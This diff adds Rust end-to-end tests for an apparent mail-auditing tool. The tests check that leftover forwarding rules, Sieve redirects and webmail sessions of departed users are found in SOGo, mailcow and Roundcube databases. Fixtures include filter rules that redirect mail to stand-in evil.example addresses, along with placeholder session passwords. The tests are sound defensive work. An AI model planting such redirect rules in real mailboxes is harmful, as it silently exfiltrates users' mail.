@@ -3,10 +3,12 @@
 #![allow(clippy::unwrap_used, reason = "a step that fails is a test that fails")]
 
 use std::fs;
+use std::os::unix::fs::PermissionsExt as _;
 use std::path::Path;
 use std::process::Command;
 
 use mailwarden_e2e::{Installation, Output, mailwarden};
+use mailwarden_lab::mariadb::MariaDb;
 use serde_json::Value;
 
 fn database(path: &Path, statements: &str) {
@@ -75,6 +77,97 @@ fn what_a_panel_kept_of_somebody_who_left_is_found_and_ordinary_rows_are_not() {
     let rows = listing["surfaces"].as_array().unwrap();
     let covered = |id: &str| rows.iter().find(|row| row["id"] == id).unwrap()["covered"].clone();
     assert_eq!((covered("panel.forwarding"), covered("webmail.shares")), (true.into(), false.into()));
+}
+
+#[test]
+fn what_a_groupware_would_write_again_is_found_and_ordinary_profiles_are_not() {
+    let place = tempfile::tempdir().unwrap();
+    let (sogo, mailcow) = (place.path().join("sogo.db"), place.path().join("mailcow.db"));
+    database(
+        &sogo,
+        r#"CREATE TABLE sogo_user_profile (c_uid TEXT, c_defaults TEXT, c_settings TEXT);
+         INSERT INTO sogo_user_profile VALUES ('jane@example.test', '{"Forward":{"enabled":1,"forwardAddress":["sales@example.test"]},
+           "Vacation":{"enabled":1,"autoReplyText":"topsecret","autoReplyEmailAddresses":["jane@example.test"]},
+           "SOGoSieveFilters":[{"name":"news","active":1,"actions":[{"method":"fileinto","argument":"News"}]},
+             {"name":"tidy","active":1,"match":"allmessages","actions":[{"method":"redirect","argument":"x@evil.example"}]},
+             {"name":"old","active":0,"match":"allmessages","actions":[{"method":"notify","argument":"y@evil.example"}]}]}', '');
+         INSERT INTO sogo_user_profile VALUES ('bob@example.test', '{"Vacation":{"enabled":1,
+           "autoReplyEmailAddresses":["bob@example.test"]}}', '{"Mail":{"DelegateTo":[]}}');
+         CREATE TABLE sogo_sessions_folder (c_id TEXT, c_value TEXT, c_creationdate INT, c_lastseen INT);
+         INSERT INTO sogo_sessions_folder VALUES ('topsecret', 'topsecret', 1, 2);"#,
+    );
+    database(
+        &mailcow,
+        r#"CREATE TABLE mailbox (username TEXT, active INT, attributes TEXT);
+         CREATE TABLE alias (address TEXT, goto TEXT, active INT);
+         CREATE TABLE domain_admins (username TEXT, domain TEXT, active INT);
+         CREATE TABLE admin (username TEXT, active INT);
+         CREATE TABLE sender_acl (logged_in_as TEXT, send_as TEXT);
+         CREATE TABLE sieve_filters (id INT, username TEXT, script_desc TEXT, script_name TEXT, script_data TEXT);
+         INSERT INTO sieve_filters VALUES (1, 'jane@example.test', 'copy', 'active', 'if true { redirect "z@evil.example"; }');
+         INSERT INTO sieve_filters VALUES (2, 'jane@example.test', 'news', 'active',
+           'require "fileinto"; if header :contains "list-id" "news" { fileinto "News"; }');"#,
+    );
+    let (sogo, mailcow) = (sogo.display(), mailcow.display());
+    let configured = format!(
+        "[[panel]]\nkind = \"sogo\"\nurl = \"sqlite:{sogo}\"\n[[panel]]\nkind = \"mailcow\"\nurl = \"sqlite:{mailcow}\"\n"
+    );
+    let output = sweep(&installed(place.path(), &configured));
+    let report = output.json();
+    assert_eq!(
+        said(&report),
+        [
+            "panel.answer bob@example.test bob@example.test",
+            "panel.mail-outside jane@example.test x@evil.example",
+            "panel.push jane@example.test y@evil.example",
+            "sieve.redirect-external - z@evil.example",
+        ]
+    );
+    let findings = report["findings"].as_array().unwrap();
+    let of = |check: &str| findings.iter().find(|found| found["check_id"] == check).unwrap();
+    assert_eq!(of("panel.mail-outside")["remediation"]["regenerated_by"], serde_json::json!(["SOGo"]));
+    assert_eq!(of("panel.push")["state"], "dormant");
+    let kept = of("sieve.redirect-external");
+    assert_eq!(kept["surface"]["id"], "webmail.profile");
+    let remedy = kept["remediation"]["command"].as_str().unwrap();
+    assert!(remedy.contains("panel's own page") && !remedy.contains("doveadm"), "{remedy}");
+    assert!(!output.stdout.contains("topsecret"));
+    assert!(output.stderr.contains("1 sessions are kept"), "{}", output.stderr);
+}
+
+#[test]
+fn a_leavers_webmail_session_is_found_and_a_colleagues_is_not() {
+    // base64 of what PHP writes: `language|s:5:"en_US";user_id|i:N;password|s:9:"topsecret";`
+    let vars = |user: u32| {
+        let text = format!("language|s:5:\"en_US\";user_id|i:{user};password|s:9:\"topsecret\";");
+        format!("TO_BASE64('{text}')")
+    };
+    let (jane, bob) = (vars(1), vars(2));
+    let mariadb = MariaDb::start(&format!(
+        "CREATE DATABASE roundcube;\nUSE roundcube;\nCREATE USER reader@'127.0.0.1' IDENTIFIED BY 'tiger';\n\
+         GRANT SELECT ON roundcube.* TO reader@'127.0.0.1';\n\
+         CREATE TABLE users (user_id INT, username VARCHAR(128));\n\
+         CREATE TABLE identities (identity_id INT, user_id INT, del INT, email VARCHAR(128), `reply-to` VARCHAR(128), \
+         bcc VARCHAR(128));\n\
+         CREATE TABLE session (sess_id VARCHAR(128), ip VARCHAR(40), vars MEDIUMTEXT);\n\
+         INSERT INTO users VALUES (1, 'jane@example.test'), (2, 'bob@example.test');\n\
+         INSERT INTO session VALUES ('topsecret1', '192.0.2.1', {jane}), ('topsecret2', '198.51.100.7', {bob});\n"
+    ))
+    .unwrap();
+    let place = tempfile::tempdir().unwrap();
+    let url = mariadb.url("reader", "roundcube");
+    let configured = format!(
+        "[[panel]]\nkind = \"roundcube\"\nurl = \"{url}\"\npassword = {{ file = \"db.password\" }}\n"
+    );
+    let installation = installed(place.path(), &configured);
+    let secret = installation.write("db.password", "tiger").unwrap();
+    fs::set_permissions(secret, fs::Permissions::from_mode(0o600)).unwrap();
+    let output = sweep(&installation);
+    let report = output.json();
+    assert_eq!(said(&report), ["panel.session-leaver 2 bob@example.test"]);
+    let title = report["findings"][0]["title"].as_str().unwrap();
+    assert!(title.ends_with("still logged in to roundcube from 198.51.100.7."), "{title}");
+    assert!(!output.stdout.contains("topsecret"));
 }
 
 #[test]
